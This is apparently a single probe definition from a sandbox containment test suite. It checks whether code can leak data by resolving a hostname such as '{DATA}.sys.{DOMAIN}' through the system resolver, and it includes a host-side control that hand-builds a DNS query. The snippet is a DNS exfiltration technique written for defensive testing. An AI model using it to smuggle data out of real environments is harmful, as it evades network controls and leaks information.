ID = 'dns.system-resolver'
CATEGORY = 'dns'
DESCRIPTION = 'getaddrinfo(<data>.probe.test): exfiltration through whatever resolver the system has'
CLAIMS = ('rule:network (namespace)',)
CODE = r"""
try:
    socket.getaddrinfo(f"{DATA}.sys.{DOMAIN}", 80)
    out("ALLOWED", "the name resolved")
except OSError as e:
    out("DENIED", f"getaddrinfo: {e}")
"""
CONTROL = {'where': 'host', 'code': '\n# the host\'s own resolver is not the probe\'s (and must not be sent probe names): the\n# control asks the probe\'s resolver directly, which is what a system resolver would do\nq = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(\n    bytes([len(p)]) + p.encode() for p in f"{DATA}.sys.{DOMAIN}".split(".")) + b"\\x00\\x00\\x01\\x00\\x01"\nwith socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:\n    u.settimeout(2); u.sendto(q, (DNS_HOST, DNS_PORT)); u.recv(512)\nout("ALLOWED", "the resolver answered")\n'}
CONTAINED = 'no query with the data reaches the DNS sink'
